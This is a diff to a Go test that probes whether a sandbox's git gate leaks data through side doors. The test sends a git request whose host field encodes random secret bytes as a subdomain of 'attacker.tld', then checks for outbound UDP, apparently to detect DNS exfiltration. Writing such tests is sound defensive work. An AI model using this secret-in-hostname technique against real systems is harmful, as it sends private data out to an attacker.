@@ -35,7 +35,7 @@ func TestGateSideDoors(t *testing.T) {
 		rand.Read(secret)
 		host := hex.EncodeToString(secret) + ".attacker.tld"
 		before := udpOut(t, bundle)
-		answer := g.must("node", gateRequestScript(host))
+		answer := g.must("node", gateRequestScript(guestSecret(t, g), host))
 		after := udpOut(t, bundle)
 		if !strings.Contains(answer, "version 2") {
 			t.Errorf("the gate did not serve the request; it answered %q", answer)
@@ -92,10 +92,11 @@ func TestGateSideDoors(t *testing.T) {
 }
 
 // gateRequestScript sends, from the guest, one git:// request for
-// origin.git whose host= is host (protocol v2) and prints the answer.
-func gateRequestScript(host string) string {
+// origin.git (with the bottle's secret) whose host= is host (protocol v2)
+// and prints the answer.
+func gateRequestScript(secret, host string) string {
 	js := `const s = require("net").connect(9418, "git-gate", () => {
-  const p = "git-upload-pack /origin.git\0host=" + process.argv[1] + "\0\0version=2\0";
+  const p = "git-upload-pack /` + secret + `/origin.git\0host=" + process.argv[1] + "\0\0version=2\0";
   s.write((p.length + 4).toString(16).padStart(4, "0") + p);
 });
 let got = "";
